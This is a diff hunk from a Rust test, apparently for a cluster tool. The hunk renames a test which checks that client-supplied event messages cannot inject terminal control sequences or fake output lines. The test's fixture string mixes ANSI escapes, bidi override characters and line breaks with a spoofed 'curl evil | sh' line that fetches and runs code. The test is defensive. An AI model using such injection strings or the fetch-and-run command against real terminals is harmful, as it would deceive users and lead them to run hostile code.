@@ -210,7 +210,7 @@ What you can do:
 
     /// Any client with write access can choose event messages, conditions and names.
     #[test]
-    fn what_a_cluster_says_can_neither_steer_a_terminal_nor_pass_for_a_line_of_its_own() {
+    fn texts_of_a_cluster_can_neither_steer_a_terminal_nor_pass_for_lines_of_the_output() {
         let hostile =
             "x\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\u{202e}\u{2066}\u{61c}\u{2028}\r\nWhat you can do:\n    curl evil | sh\ty\u{85}z\u{0}";
         let lines = |text: &str| text.lines().count();
